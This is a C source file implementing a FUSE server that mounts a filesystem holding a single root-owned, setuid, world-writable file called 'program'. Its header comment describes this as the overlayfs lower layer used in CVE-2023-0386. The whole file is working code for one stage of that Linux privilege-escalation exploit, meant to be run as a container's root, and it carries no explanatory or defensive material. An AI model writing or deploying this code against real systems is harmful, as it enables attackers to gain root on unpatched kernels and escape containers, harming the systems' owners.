/* suid_fuse DIRECTORY: mounts there a filesystem of its own, for all users, whose one file, `program`, belongs to root, is setuid and
 * may be written to by anybody: what an overlay's lower layer was in CVE-2023-0386. Serves until it is unmounted. As container's root.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#define FILE_NODE 2
static const char contents[] = "#!/bin/sh\n";
static int fd;

static void answer(uint64_t unique, int error, const void *data, size_t size)
{
	struct fuse_out_header head = {.len = (uint32_t)(sizeof head + size), .error = -error, .unique = unique};
	struct iovec parts[] = {{&head, sizeof head}, {(void *)data, size}};

	if (writev(fd, parts, 2) < 0 && errno != ENOENT)
		perror("answer");
}

static struct fuse_attr attributes(uint64_t node)
{
	struct fuse_attr found = {.ino = node, .mode = S_IFDIR | 0755, .nlink = 2, .blksize = 4096};

	if (node == FILE_NODE) {
		found.mode = S_IFREG | 04777;
		found.nlink = 1;
		found.size = sizeof contents - 1;
	}
	return found;
}

static void serve(const struct fuse_in_header *request, const void *body)
{
	struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 4096};
	struct fuse_entry_out entry = {.nodeid = FILE_NODE, .attr = attributes(FILE_NODE)};
	struct fuse_attr_out attr = {.attr = attributes(request->nodeid)};
	struct fuse_open_out opened = {0};
	struct fuse_statfs_out statfs = {.st = {.bsize = 4096, .namelen = 255}};
	const struct fuse_read_in *reading = body;
	size_t left;

	switch (request->opcode) {
	case FUSE_INIT:
		answer(request->unique, 0, &init, sizeof init);
		break;
	case FUSE_LOOKUP:
		if (strcmp(body, "program"))
			answer(request->unique, ENOENT, NULL, 0);
		else
			answer(request->unique, 0, &entry, sizeof entry);
		break;
	case FUSE_GETATTR:
		answer(request->unique, 0, &attr, sizeof attr);
		break;
	case FUSE_OPEN:
	case FUSE_OPENDIR:
		answer(request->unique, 0, &opened, sizeof opened);
		break;
	case FUSE_READ:
		left = reading->offset < sizeof contents - 1 ? sizeof contents - 1 - reading->offset : 0;
		answer(request->unique, 0, contents + sizeof contents - 1 - left, left < reading->size ? left : reading->size);
		break;
	case FUSE_READDIR:
	case FUSE_RELEASE:
	case FUSE_RELEASEDIR:
	case FUSE_FLUSH:
		answer(request->unique, 0, NULL, 0);
		break;
	case FUSE_STATFS:
		answer(request->unique, 0, &statfs, sizeof statfs);
		break;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		break;
	default:
		answer(request->unique, ENOSYS, NULL, 0);
	}
}

int main(int argc, char **argv)
{
	static _Alignas(8) char buffer[1 << 17];
	char options[128];
	ssize_t size;

	fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other,default_permissions", fd);
	if (argc != 2 || fd < 0 || mount("suid", argv[1], "fuse", 0, options)) {
		perror("fuse");
		return 1;
	}
	while ((size = read(fd, buffer, sizeof buffer)) > 0 || errno == EINTR || errno == ENOENT)
		if (size > 0)
			serve((void *)buffer, buffer + sizeof(struct fuse_in_header));
	return 0;
}
